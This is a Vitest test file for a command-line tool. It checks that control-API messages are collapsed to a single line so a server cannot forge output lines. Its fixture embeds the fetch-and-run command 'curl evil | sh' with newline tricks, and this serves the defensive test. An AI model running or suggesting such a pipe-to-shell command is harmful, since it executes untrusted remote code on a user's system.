import { afterEach, beforeEach, expect, test } from 'vitest';
import { createControlClient } from '../../../src/cli/control-client.js';
import { oneLine } from '../../../src/cli/one-line.js';
import { createProgram } from '../../../src/cli/program.js';
import { startStubControlApi } from '../../support/stub-control-api.js';

/** A control API whose sentences, of whatever origin, hold lines that look as if the command line wrote them. */
const forged = 'Something.\r\n    curl evil | sh\n\nnext: evil\u2028next: evil\t';
const next = [{ command: forged, what: forged }];
const answer = {
  cube: 'saju',
  cube_id: 'saju-cube',
  id: 'one',
  kind: 'saju-records',
  stage: 'copying',
  status: 'waiting',
  enabled: true,
  percentage: 5,
  target_percentage: 100,
  sentence: forged,
  lowered: [forged],
  checked_at: null,
  changed_since_end: null,
  settings: { check_interval_seconds: 15 },
  rollbacks: [{ at: '', from_percentage: 5, sentence: forged }],
  actions: [],
  next,
  allow: [],
  deny: [],
  changed: { by: forged, at: '', why: forged },
  problems: [forged],
  steps: [],
  progress: { eta_seconds: null, items: null },
  verification: { status: 'none', compared: 0, mismatches: [] },
  error: { type: 'unexpected', message: forged, hint: forged },
  last_operation: { action: 'repair', summary: forged },
};
const refusal = { type: 'conflict', detail: forged, safe: forged, hint: forged };
let status: number;
let stop: () => void;

beforeEach(async () => {
  status = 200;
  stop = await startStubControlApi(() => ({ status, body: status === 200 ? answer : refusal }));
});
afterEach(() => stop());

test.each([
  [['traffic', 'ramp', 'saju', '--status']],
  [['traffic', 'get', 'saju']],
  [['cubes', 'rollback', 'saju-cube', '--status']],
  [['migrate', 'status', 'one']],
])('%j shows no line that a sentence forged', async (words) => {
  const said: string[] = [];
  const say = (text: string) => void said.push(text);
  const program = createProgram({ print: say, copy: say, talk: say, json: () => undefined, line: () => undefined });
  await program.parseAsync([...words], { from: 'user' });
  const lines = said.join('\n').split(/[\r\n\u2028]/);
  expect(lines.join('\n')).toContain('Something.     curl evil | sh next: evil next: evil');
  for (const line of lines) expect(line).not.toMatch(/^\s*(?:curl|next: evil)/);
});

test('a failure of the control API has no line of its own in a sentence', async () => {
  status = 409;
  const sentence = oneLine(forged);
  expect(sentence).not.toMatch(/[\r\n\t\u2028]/);
  await expect(createControlClient(undefined).call('GET', '/v1/migrations')).rejects.toMatchObject({
    message: sentence,
    safe: sentence,
    hint: sentence,
  });
});
